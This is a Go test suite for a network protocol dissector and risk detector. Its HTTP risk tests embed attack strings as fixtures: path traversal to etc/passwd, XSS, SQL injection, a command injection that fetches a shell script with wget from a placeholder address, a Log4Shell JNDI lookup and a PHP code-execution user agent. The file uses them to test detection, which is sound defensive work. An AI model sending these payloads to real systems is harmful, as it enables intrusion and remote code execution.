package dissect

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
)

func TestNames(t *testing.T) {
	for p, want := range map[Protocol]string{Unknown: "Unknown", 7: "HTTP", 91: "TLS", 5: "DNS", 126: "Google", 60000: "60000"} {
		if got := p.String(); got != want {
			t.Errorf("Protocol(%d) = %q, want %q", p, got, want)
		}
	}
	for _, p := range Protocols() {
		if got, err := ParseProtocol(strings.ToUpper(p.String())); err != nil || got != p {
			t.Errorf("ParseProtocol(%v) = %v, %v", p, got, err)
		}
	}
	if _, err := ParseProtocol("no such thing"); err == nil {
		t.Error("a protocol that does not exist was parsed")
	}
	for r := range numRisks {
		if got, err := ParseRisk(r.String()); err != nil || got != r {
			t.Errorf("ParseRisk(%v) = %v, %v", r, got, err)
		}
	}
	// A few of nDPI's numbers, which users know.
	if RiskTLSCertExpired != 9 || RiskClearTextCredentials != 36 || RiskUnidirectional != 46 || RiskObfuscated != 56 {
		t.Error("risk numbers have moved")
	}
	if CategoryMusic != 25 || CategoryIoT != 31 || CategoryAdultContent != 34 {
		t.Error("category numbers have moved")
	}
	for _, tc := range []struct {
		m, a Protocol
		want string
	}{{ProtoTLS, ProtoGoogle, "TLS.Google"}, {ProtoTLS, Unknown, "TLS"}, {Unknown, Unknown, "Unknown"}, {Unknown, ProtoZoom, "Zoom"}, {ProtoTLS, ProtoTLS, "TLS"}} {
		if got := Label(tc.m, tc.a); got != tc.want {
			t.Errorf("Label = %s, want %s", got, tc.want)
		}
	}
}

func TestApps(t *testing.T) {
	for host, want := range map[string]string{
		"www.google.com": "Google", "mail.google.com": "GMail", "fonts.googleapis.com": "GoogleServices", "r3---sn-x.googlevideo.com": "YouTube",
		"notgoogle.com": "Unknown", "com": "Unknown", "scontent.cdninstagram.com": "Instagram", "dns.google": "DoH_DoT", "x.s3.amazonaws.com": "AmazonAWS",
		"login.microsoftonline.com": "Microsoft365", "": "Unknown",
	} {
		if got := appByHost(host); got.String() != want {
			t.Errorf("appByHost(%q) = %v, want %s", host, got, want)
		}
	}
}

// dnsQuery makes a question.
func dnsQuery(name string, typ uint16, flags uint16) []byte {
	b := []byte{0x12, 0x34, byte(flags >> 8), byte(flags), 0, 1, 0, 0, 0, 0, 0, 0}
	for l := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(l))), l...)
	}
	return append(b, 0, byte(typ>>8), byte(typ), 0, 1)
}

func dnsAnswer(name string, rcode uint16, ttl byte, addrs ...[4]byte) []byte {
	b := dnsQuery(name, 1, 0x8180|rcode)
	b[7] = byte(len(addrs))
	for _, a := range addrs {
		b = append(b, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, ttl, 0, 4)
		b = append(b, a[:]...)
	}
	return b
}

func TestDNS(t *testing.T) {
	f := newFeed(l4UDP, 53)
	f.send(0, dnsQuery("WWW.Google.com", 1, 0x0100))
	wantLabel(t, f, "DNS.Google")
	if f.s.Category != CategoryNetwork {
		t.Errorf("category = %v", f.s.Category)
	}
	f.send(1, dnsAnswer("WWW.Google.com", 0, 60, [4]byte{192, 0, 2, 1}, [4]byte{192, 0, 2, 2}))
	f.send(0, dnsQuery("www.example.org", 28, 0x0100))
	f.end()
	d := f.s.Meta.DNS
	if d.Query != "www.google.com" || d.Type != 1 || !d.Answered || d.Answers != 2 || d.Queries != 2 || !slices.Equal(d.Addresses, []string{"192.0.2.1", "192.0.2.2"}) {
		t.Errorf("DNS = %+v", d)
	}
	wantNoRisks(t, f, RiskErrorCode, RiskMalformedPacket, RiskDNSSuspicious, RiskMinorIssues, RiskUnidirectional, RiskNonStandardPort)
	checkMeta(t, &f.s)
}

func TestDNSRisks(t *testing.T) {
	for _, tc := range []struct {
		name string
		q, a []byte
		want []Risk
		not  []Risk
	}{
		{"NXDOMAIN", dnsQuery("nothere.example.org", 1, 0x100), dnsAnswer("nothere.example.org", 3, 0), []Risk{RiskErrorCode}, []Risk{RiskDGADomain}},
		{"zero lifetime", dnsQuery("a.example.org", 1, 0x100), dnsAnswer("a.example.org", 0, 0, [4]byte{1, 2, 3, 4}), []Risk{RiskMinorIssues}, nil},
		{"NULL record", dnsQuery("a.example.org", 10, 0x100), nil, []Risk{RiskDNSSuspicious}, nil},
		{"tunnel", dnsQuery(strings.Repeat("ab12", 15)+".t.example.org", 16, 0x100), nil, nil, []Risk{RiskDNSSuspicious}},
		{"generated", dnsQuery("hykyk47k27bxo41cykvgrizjyf42dxcyoxly.org", 1, 0x100), nil, []Risk{RiskDGADomain}, nil},
		{"characters", dnsQuery("bad\x01name.example.org", 1, 0x100), nil, []Risk{RiskInvalidCharacters}, nil},
		{"IDN", dnsQuery("www.xn--mnich-kva.com", 1, 0x100), nil, []Risk{RiskPunycode}, nil},
		{"cut", dnsQuery("www.example.org", 1, 0x100)[:20], nil, []Risk{RiskMalformedPacket}, nil},
		{"large", dnsQuery("www.example.org", 1, 0x100), append(dnsAnswer("www.example.org", 0, 9, [4]byte{1, 2, 3, 4}), make([]byte, 600)...), []Risk{RiskDNSLarge}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFeed(l4UDP, 53)
			f.send(0, tc.q)
			if tc.a != nil {
				f.send(1, tc.a)
			}
			f.end()
			if f.s.Protocol != ProtoDNS {
				t.Errorf("protocol = %v", f.s.Protocol)
			}
			wantRisks(t, f, tc.want...)
			wantNoRisks(t, f, tc.not...)
			checkMeta(t, &f.s)
		})
	}
	f := newFeed(l4UDP, 53)
	f.frag = true
	f.send(0, dnsQuery("www.example.org", 1, 0x100))
	wantRisks(t, f, RiskDNSFragmented)
}

func TestDNSLoop(t *testing.T) {
	b := dnsQuery("x", 1, 0x100)
	b[12], b[13] = 0xc0, 12 // a pointer to itself
	var buf [256]byte
	if _, next := dnsName(b, 12, buf[:0]); next >= 0 {
		t.Error("a name that points to itself was read")
	}
}

func TestDNSTCP(t *testing.T) {
	q := dnsQuery("www.example.org", 1, 0x100)
	f := newFeed(l4TCP, 53)
	f.send(0, []byte{0, byte(len(q))}) // length and message apart
	f.send(0, q)
	wantLabel(t, f, "DNS")
	if f.s.Meta.DNS.Query != "www.example.org" {
		t.Errorf("query = %q", f.s.Meta.DNS.Query)
	}
}

func TestGenerated(t *testing.T) {
	for _, h := range []string{
		"hykyk47k27bxo41cykvgrizjyf42dxcyoxly.org", "www.e6r5p57kbafwrxj3plz.com", "xjpakmdcfuqe.in", "bqkzrtvwxph.com",
		"qxlfvtncnwhkcjy.biz",
	} {
		if !looksGenerated(h) {
			t.Errorf("%s passed", h)
		}
	}
	for _, h := range []string{
		"www.wikipedia.org", "www.bundesverfassungsgericht.de", "stackoverflow.com", "news.ycombinator.com", "www.rijksoverheid.nl",
		"googleusercontent.com", "www.strassenverkehrsamt.de", "amazonaws.com", "microsoftonline.com", "www.przelewy24.pl", "cloudflareinsights.com",
		"windowsupdate.com", "1.0.0.127.in-addr.arpa", "xn--mnchenbro-q9a.de", "bbc.co.uk", "fbcdn.net", "doubleclick.net", "akamaiedge.net",
		"scorecardresearch.com", "googlesyndication.com", "dropboxusercontent.com", "whatsapp.net", "edgesuite.net", "cdninstagram.com",
	} {
		if looksGenerated(h) {
			t.Errorf("%s was taken for generated", h)
		}
	}
}

const browser = "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\n"

func TestHTTP(t *testing.T) {
	f := newFeed(l4TCP, 80)
	f.client("GET /a/b?c=d HTTP/1.1\r\nHost: Www.Example.org:8080\r\n" + browser + "Referer: http://x/\r\n\r\n")
	f.reply("HTTP/1.1 404 Not Found\r\nServer: nginx/1.25.3\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 5\r\n\r\nhello")
	f.end()
	wantLabel(t, f, "HTTP")
	h := f.s.Meta.HTTP
	if h.Method != "GET" || h.Version != "1.1" || h.Host != "www.example.org:8080" || h.URL != "/a/b?c=d" || h.Status != 404 || h.Server != "nginx/1.25.3" ||
		h.ContentType != "text/html" || h.Referer != "http://x/" || !strings.HasPrefix(h.UserAgent, "Mozilla/5.0") || f.s.Meta.Hostname != "www.example.org" {
		t.Errorf("HTTP = %+v, host name %q", h, f.s.Meta.Hostname)
	}
	wantRisks(t, f, RiskErrorCode)
	wantNoRisks(t, f, RiskHTTPUserAgent, RiskHTTPObsoleteServer, RiskNonStandardPort, RiskURLXSS, RiskURLSQLInjection, RiskURLRCE, RiskHTTPURL)
	if !f.s.Done() {
		t.Error("reads on")
	}
}

// TestHTTPSplit sends a request a few bytes at a time, and one whose end never comes.
func TestHTTPSplit(t *testing.T) {
	req := "GET /index.html HTTP/1.1\r\nHost: www.example.org\r\n" + browser + "\r\n"
	f := newFeed(l4TCP, 80)
	for i := 0; i < len(req); i += 11 {
		f.client(req[i:min(i+11, len(req))])
	}
	wantLabel(t, f, "HTTP")
	if f.s.Meta.Hostname != "www.example.org" {
		t.Errorf("host = %q", f.s.Meta.Hostname)
	}
	f = newFeed(l4TCP, 80)
	f.client("GET /long HTTP/1.1\r\nHost: cut.example.org\r\nUser-Agent: abc").end()
	wantLabel(t, f, "HTTP")
	if f.s.Meta == nil || f.s.Meta.Hostname != "cut.example.org" {
		t.Errorf("an unfinished request was not read at the flow's end: %+v", f.s.Meta)
	}
}

func TestHTTPRisks(t *testing.T) {
	get := func(url, headers string) string {
		return "GET " + url + " HTTP/1.1\r\nHost: www.example.org\r\n" + headers + "\r\n"
	}
	ok := "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html></html>"
	for _, tc := range []struct {
		name, req, resp string
		want            []Risk
		not             []Risk
	}{
		{"basic", get("/", browser+"Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("alice:s3cret"))+"\r\n"), ok, []Risk{RiskClearTextCredentials}, nil},
		{"no agent", get("/", ""), ok, []Risk{RiskHTTPUserAgent}, nil},
		{"scanner", get("/", "User-Agent: sqlmap/1.7\r\n"), ok, []Risk{RiskHTTPUserAgent}, nil},
		{"made up", get("/", "User-Agent: pwtyyEKzNtGatwnJjmCcBLbOveCVpc\r\n"), ok, []Risk{RiskHTTPUserAgent}, nil},
		{"php in the agent", get("/", "User-Agent: <?php system('id') ?>\r\n"), ok, []Risk{RiskHTTPUserAgent}, nil},
		{"curl", get("/", "User-Agent: curl/8.4.0\r\n"), ok, nil, []Risk{RiskHTTPUserAgent}},
		{"traversal", get("/..%252f..%252fetc/passwd", browser), ok, []Risk{RiskHTTPURL}, nil},
		{"xss", get("/?q=%3Cscript%3Ealert(1)%3C/script%3E", browser), ok, []Risk{RiskURLXSS}, []Risk{RiskURLSQLInjection}},
		{"sql", get("/?id=1%27+UNION/**/SELECT+name,pass+FROM+users--", browser), ok, []Risk{RiskURLSQLInjection}, []Risk{RiskURLXSS}},
		{"blind sql", get("/?id=1%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)", browser), ok, []Risk{RiskURLSQLInjection}, nil},
		{"rce", get("/?x=;wget+http://192.0.2.1/x.sh", browser), ok, []Risk{RiskURLRCE}, nil},
		{"log4shell", get("/", "User-Agent: ${${lower:j}ndi:ldap://192.0.2.1/a}\r\n"), ok, []Risk{RiskPossibleExploit}, nil},
		{"plain query", get("/search?q=union+of+workers+select+committee&or=1", browser), ok, nil, []Risk{RiskURLSQLInjection, RiskURLXSS, RiskURLRCE, RiskHTTPURL}},
		{"script word", get("/javascript/app.js?v=1", browser), ok, nil, []Risk{RiskURLXSS}},
		{"exe", get("/setup", browser), "HTTP/1.1 200 OK\r\nContent-Type: application/x-msdownload\r\n\r\nMZ", []Risk{RiskBinaryApplicationTransfer}, nil},
		{"elf", get("/x", browser), "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00", []Risk{RiskBinaryApplicationTransfer, RiskHTTPContent}, nil},
		{"octets", get("/x", browser), "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nabc", []Risk{RiskBinaryDataTransfer}, []Risk{RiskBinaryApplicationTransfer}},
		{"old server", get("/", browser), "HTTP/1.1 200 OK\r\nServer: Apache/2.2.15 (CentOS)\r\n\r\nx", []Risk{RiskHTTPObsoleteServer}, nil},
		{"new server", get("/", browser), "HTTP/1.1 200 OK\r\nServer: Apache/2.4.58\r\n\r\nx", nil, []Risk{RiskHTTPObsoleteServer}},
		{"address", "GET / HTTP/1.1\r\nHost: 203.0.113.9\r\n" + browser + "\r\n", ok, []Risk{RiskNumericHost, RiskHTTPHeader}, nil},
		{"its address", "GET / HTTP/1.1\r\nHost: 198.51.100.20\r\n" + browser + "\r\n", ok, []Risk{RiskNumericHost}, []Risk{RiskHTTPHeader}},
		{"crawler", get("/", "User-Agent: Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)\r\n"), ok, []Risk{RiskCrawler}, []Risk{RiskHTTPUserAgent}},
		{"odd header", get("/", browser+"TLS_version: 1\r\n"), ok, []Risk{RiskHTTPHeader}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFeed(l4TCP, 80)
			f.client(tc.req).reply(tc.resp).end()
			wantRisks(t, f, tc.want...)
			wantNoRisks(t, f, tc.not...)
			checkMeta(t, &f.s)
			if strings.Contains(fmt.Sprintf("%+v %+v", f.s.Meta, f.s.Meta.Credentials), "s3cret") {
				t.Error("the password is kept")
			}
		})
	}
}

func TestHTTPApps(t *testing.T) {
	for _, tc := range []struct{ req, want string }{
		{"GET / HTTP/1.1\r\nHost: api.spotify.com\r\n\r\n", "HTTP.Spotify"},
		{"POST / HTTP/1.1\r\nHost: ocsp.example.org\r\nContent-Type: application/ocsp-request\r\n\r\n", "HTTP.OCSP"},
		{"GET /announce?info_hash=%01%02&peer_id=x HTTP/1.1\r\nHost: t.example.org\r\n\r\n", "HTTP.BitTorrent"},
		{"CONNECT www.example.org:443 HTTP/1.1\r\nHost: www.example.org:443\r\n\r\n", "HTTP_Connect"},
		{"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "HTTP2"},
	} {
		f := newFeed(l4TCP, 80)
		f.client(tc.req)
		wantLabel(t, f, tc.want)
	}
	f := newFeed(l4TCP, 80)
	f.client("GET /chat HTTP/1.1\r\nHost: a.example.org\r\nUpgrade: websocket\r\n\r\n").reply("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n")
	wantLabel(t, f, "HTTP.WebSocket")
	f = newFeed(l4TCP, 80)
	f.client("GET /x HTTP/1.1\r\nHost: ads.g.doubleclick.net\r\n\r\n")
	if f.s.Category != CategoryAdvertisement || f.label() != "HTTP.Google" {
		t.Errorf("advertisement: %v %s", f.s.Category, f.label())
	}
}

// TestLogins checks that user names are kept, passwords never, for every protocol that sends them in clear.
func TestLogins(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, tc := range []struct {
		name, label, user string
		port              uint16
		steps             []string // > from the client, < from the server
		password          bool
	}{
		{"ftp", "FTP_CONTROL", "alice", 21, []string{"<220 (vsFTPd 3.0.5)\r\n", ">USER alice\r\n", "<331 Please specify the password.\r\n", ">PASS s3cret\r\n", "<230 Login successful.\r\n"}, true},
		{"ftp on another port", "FTP_CONTROL", "alice", 2121, []string{"<220 ProFTPD Server ready\r\n", ">USER alice\r\n", ">PASS s3cret\r\n"}, true},
		{"ftp in pieces", "FTP_CONTROL", "alice", 21, []string{"<220 FTP\r\n", ">USER al", ">ice\r\nPASS s3", ">cret\r\n"}, true},
		{"pop3", "POP3", "bob", 110, []string{"<+OK ready\r\n", ">USER bob\r\n", "<+OK\r\n", ">PASS s3cret\r\n"}, true},
		{"pop3 plain", "POP3", "bob", 110, []string{"<+OK ready\r\n", ">AUTH PLAIN\r\n", "<+ \r\n", ">" + b64("\x00bob\x00s3cret") + "\r\n"}, true},
		{"imap", "IMAP", "carol", 143, []string{"<* OK IMAP4rev1 ready\r\n", ">a1 LOGIN carol s3cret\r\n"}, true},
		{"imap plain", "IMAP", "carol", 143, []string{"<* OK ready\r\n", ">a1 AUTHENTICATE PLAIN\r\n", "<+ \r\n", ">" + b64("\x00carol\x00s3cret") + "\r\n"}, true},
		{"smtp plain", "SMTP", "dave", 25, []string{"<220 mx ESMTP\r\n", ">EHLO x\r\n", "<250-mx\r\n250 AUTH PLAIN LOGIN\r\n", ">AUTH PLAIN " + b64("\x00dave\x00s3cret") + "\r\n"}, true},
		{"smtp login", "SMTP", "dave", 587, []string{"<220 mx ESMTP\r\n", ">EHLO x\r\n", ">AUTH LOGIN\r\n", "<334 VXNlcm5hbWU6\r\n", ">" + b64("dave") + "\r\n", "<334 UGFzc3dvcmQ6\r\n", ">" + b64("s3cret") + "\r\n"}, true},
		{"telnet", "Telnet", "erin", 23, []string{"<\xff\xfd\x18\xff\xfd\x20", ">\xff\xfb\x18", "<box login: ", ">e", ">r", ">i", ">n", ">\r\n", "<Password: ", ">s3", ">cret\r\n"}, true},
		{"irc", "IRC", "frank", 6667, []string{">NICK frank\r\nUSER frank 0 * :Frank\r\n"}, false},
		{"rsh", "RSH", "root", 514, []string{">1022\x00root\x00root\x00id\x00"}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFeed(l4TCP, tc.port)
			for _, s := range tc.steps {
				if s[0] == '>' {
					f.client(s[1:])
				} else {
					f.reply(s[1:])
				}
			}
			f.end()
			wantLabel(t, f, tc.label)
			wantRisks(t, f, RiskClearTextCredentials)
			c := f.s.Meta.Credentials
			if c == nil || c.User != tc.user || c.Password != tc.password {
				t.Errorf("credentials = %+v", c)
			}
			if s := fmt.Sprintf("%+v %+v %+v", f.s, *f.s.Meta, c); strings.Contains(s, "s3cret") {
				t.Errorf("the password is kept: %s", s)
			}
			checkMeta(t, &f.s)
		})
	}
}

func TestStartTLS(t *testing.T) {
	for _, tc := range []struct {
		label string
		port  uint16
		steps []string
	}{
		{"SMTPS", 25, []string{"<220 mx ESMTP\r\n", ">EHLO x\r\n", "<250 STARTTLS\r\n", ">STARTTLS\r\n", "<220 go ahead\r\n"}},
		{"POPS", 110, []string{"<+OK ready\r\n", ">STLS\r\n", "<+OK begin\r\n"}},
		{"IMAPS", 143, []string{"<* OK ready\r\n", ">a STARTTLS\r\n", "<a OK begin\r\n"}},
		{"FTP_CONTROL", 21, []string{"<220 FTP\r\n", ">AUTH TLS\r\n", "<234 go\r\n"}},
	} {
		f := newFeed(l4TCP, tc.port)
		for _, s := range tc.steps {
			if s[0] == '>' {
				f.client(s[1:])
			} else {
				f.reply(s[1:])
			}
		}
		f.send(0, wrapHello(chromeHello()))
		wantLabel(t, f, tc.label)
		if f.s.Meta == nil || f.s.Meta.TLS == nil || f.s.Meta.TLS.SNI != "example.org" {
			t.Errorf("%s: the hello after STARTTLS was not read", tc.label)
		}
	}
}

func TestSSH(t *testing.T) {
	kex := func(ciphers string) string {
		b := make([]byte, 0, 128)
		b = append(b, 0, 20)
		b = append(b, make([]byte, 16)...)
		for _, l := range []string{"curve25519-sha256", "ssh-ed25519", ciphers, ciphers, "hmac-sha2-256", "hmac-sha2-256", "none", "none", "", ""} {
			b = append(b, 0, 0, 0, byte(len(l)))
			b = append(b, l...)
		}
		b = append(b, make([]byte, 5)...)
		return string([]byte{0, 0, byte(len(b) >> 8), byte(len(b))}) + string(b)
	}
	f := newFeed(l4TCP, 22)
	f.client("SSH-2.0-OpenSSH_9.6\r\n").reply("SSH-2.0-OpenSSH_5.3\r\n").client(kex("aes128-ctr")).reply(kex("aes128-ctr,arcfour"))
	f.end()
	wantLabel(t, f, "SSH")
	if f.s.Meta.SSH.Client != "SSH-2.0-OpenSSH_9.6" || f.s.Meta.SSH.Server != "SSH-2.0-OpenSSH_5.3" {
		t.Errorf("SSH = %+v", f.s.Meta.SSH)
	}
	wantRisks(t, f, RiskSSHObsoleteServer)
	wantNoRisks(t, f, RiskSSHObsoleteClient)
	f = newFeed(l4TCP, 22)
	f.client("SSH-2.0-x\r\n" + kex("3des-cbc")).reply("SSH-1.99-Cisco-1.25\n")
	wantRisks(t, f, RiskSSHObsoleteClient, RiskSSHObsoleteServer)
}

func TestDHCP(t *testing.T) {
	msg := func(op byte, opts ...byte) []byte {
		b := make([]byte, 240)
		b[0], b[1], b[2] = op, 1, 6
		copy(b[236:], "\x63\x82\x53\x63")
		return append(append(b, opts...), 255)
	}
	f := newFeed(l4UDP, 67)
	f.send(0, msg(1, append([]byte{53, 1, 1, 12, 6}, "Laptop"...)...))
	if d := f.s.Meta.DHCP; d.Hostname != "laptop" || d.MessageType != 1 {
		t.Errorf("DHCP = %+v", d)
	}
	f.send(1, msg(2, 53, 1, 2, 54, 4, 192, 0, 2, 1))
	wantLabel(t, f, "DHCP")
	d := f.s.Meta.DHCP
	if d.MessageType != 2 || d.ServerID != "192.0.2.1" || d.Server != testServer.String() || f.s.Meta.Hostname != "laptop" {
		t.Errorf("DHCP = %+v", d)
	}
}

func TestNTP(t *testing.T) {
	req, resp := make([]byte, 48), make([]byte, 48)
	req[0], resp[0], resp[1] = 4<<3|3, 4<<3|4, 2
	f := newFeed(l4UDP, 123)
	f.send(0, req)
	f.send(1, resp)
	wantLabel(t, f, "NTP")
	if n := f.s.Meta.NTP; n.Version != 4 || n.Mode != 3 || n.Stratum != 2 || !n.Answered {
		t.Errorf("NTP = %+v", n)
	}
}

// TestGuess checks that ports decide only at the end, and that this is said.
func TestGuess(t *testing.T) {
	f := newFeed(l4TCP, 22)
	f.client("\x01\x02\x03 nothing known \x99")
	if f.s.Protocol != Unknown {
		t.Errorf("protocol before the end = %v", f.s.Protocol)
	}
	f.end()
	wantLabel(t, f, "SSH")
	if f.s.Confidence != ConfidenceGuess {
		t.Errorf("confidence = %v", f.s.Confidence)
	}
	wantNoRisks(t, f, RiskUnsafeProtocol, RiskNonStandardPort)
	for l4, want := range map[uint8]string{l4ICMP: "ICMP", l4ICMPv6: "ICMPV6", l4IGMP: "IGMP", l4ESP: "IPSec", l4GRE: "GRE", l4OSPF: "OSPF", l4SCTP: "SCTP"} {
		f := newFeed(l4, 0)
		f.end()
		if f.label() != want || f.s.Confidence != ConfidenceDPI {
			t.Errorf("IP protocol %d = %s (%v), want %s", l4, f.label(), f.s.Confidence, want)
		}
	}
}

func TestFlowRisks(t *testing.T) {
	d := New()
	end := func(e FlowEnd, s State) State {
		e.L4 = l4TCP
		if !e.Server.IsValid() {
			e.Server = testServer
		}
		e.Client = testClient
		d.Finish(&s, &e)
		return s
	}
	dpi := func(p Protocol) State { return State{Protocol: p, Confidence: ConfidenceDPI} }
	for _, tc := range []struct {
		name string
		s    State
		e    FlowEnd
		want []Risk
		not  []Risk
	}{
		{"refused", State{}, FlowEnd{ServerPort: 9, Packets: [2]uint64{1, 1}, TCPFlags: [2]uint8{tcpSYN, tcpRST | tcpACK}}, []Risk{RiskTCPIssues}, []Risk{RiskUnidirectional}},
		{"null scan", State{}, FlowEnd{Packets: [2]uint64{1, 0}}, []Risk{RiskTCPIssues, RiskUnidirectional}, nil},
		{"half open", State{}, FlowEnd{Packets: [2]uint64{2, 1}, TCPFlags: [2]uint8{tcpSYN | tcpRST, tcpSYN | tcpACK}}, []Risk{RiskProbing, RiskTCPIssues}, nil},
		{"telnet", dpi(ProtoTelnet), FlowEnd{ServerPort: 2323, Packets: [2]uint64{9, 9}, Payload: [2]uint64{9, 9}}, []Risk{RiskUnsafeProtocol, RiskNonStandardPort}, []Risk{RiskTCPIssues}},
		{"remote desktop", dpi(ProtoRDP), FlowEnd{ServerPort: 3389, Packets: [2]uint64{9, 9}, Payload: [2]uint64{9, 9}}, []Risk{RiskDesktopSharing}, []Risk{RiskNonStandardPort}},
		{"multicast", State{}, FlowEnd{Packets: [2]uint64{1, 0}, Server: netip.MustParseAddr("224.0.0.1"), TCPFlags: [2]uint8{tcpSYN, 0}}, nil, []Risk{RiskUnidirectional}},
	} {
		s := end(tc.e, tc.s)
		for _, r := range tc.want {
			if !s.Risks.Has(r) {
				t.Errorf("%s: risk %v is missing; have %v", tc.name, r, s.Risks.List())
			}
		}
		for _, r := range tc.not {
			if s.Risks.Has(r) {
				t.Errorf("%s: risk %v was raised", tc.name, r)
			}
		}
	}
}

func TestFullyEncrypted(t *testing.T) {
	b := make([]byte, 200)
	x := uint32(1)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = byte(x >> 24)
	}
	f := newFeed(l4TCP, 8388)
	f.send(0, b)
	f.end()
	wantRisks(t, f, RiskFullyEncrypted)
	f = newFeed(l4TCP, 8388)
	f.client("just some text that nobody knows, nothing more").end()
	wantNoRisks(t, f, RiskFullyEncrypted)
}

// TestBounded checks that a peer cannot make a flow hold more than its share.
func TestBounded(t *testing.T) {
	f := newFeed(l4TCP, 443)
	f.send(0, []byte{22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc, 3, 3}) // a record of 16 KiB that never ends
	for range 30 {
		f.send(0, make([]byte, 1400))
		f.packet(0, f.seq[0]+1<<16, make([]byte, 1400)) // and segments from far ahead
	}
	held := 0
	for _, st := range f.s.streams {
		if st != nil {
			held += len(st.buf) + st.size
		}
	}
	if x := f.s.x; x != nil {
		held += len(x.tls.hs[0]) + len(x.tls.hs[1])
	}
	if held > 4*maxStream {
		t.Errorf("%d bytes held", held)
	}
	in := &interner{}
	in.init()
	for i := range 5 * maxInterned {
		in.get(fmt.Appendf(nil, "name%d", i))
	}
	if n := len(in.young) + len(in.old); n > 2*maxInterned {
		t.Errorf("%d strings kept", n)
	}
}

func TestChanged(t *testing.T) {
	f := newFeed(l4UDP, 53)
	if !f.send(0, dnsQuery("www.example.org", 1, 0x100)) {
		t.Error("the first question changed nothing")
	}
	f = newFeed(l4UDP, 9)
	if f.send(0, []byte{1, 2, 3}) {
		t.Error("a packet nobody knows changed something")
	}
}

func TestCleanText(t *testing.T) {
	for in, want := range map[string]string{"a\x00b\tc": "a b c", "caf\xc3\xa9": "café", "bad\xff": "bad?", "\u0085": " "} {
		if got := cleanText([]byte(in)); got != want {
			t.Errorf("cleanText(%q) = %q, want %q", in, got, want)
		}
	}
	if n := len(cleanText([]byte(strings.Repeat("é", 600)))); n > maxString {
		t.Errorf("%d bytes", n)
	}
}
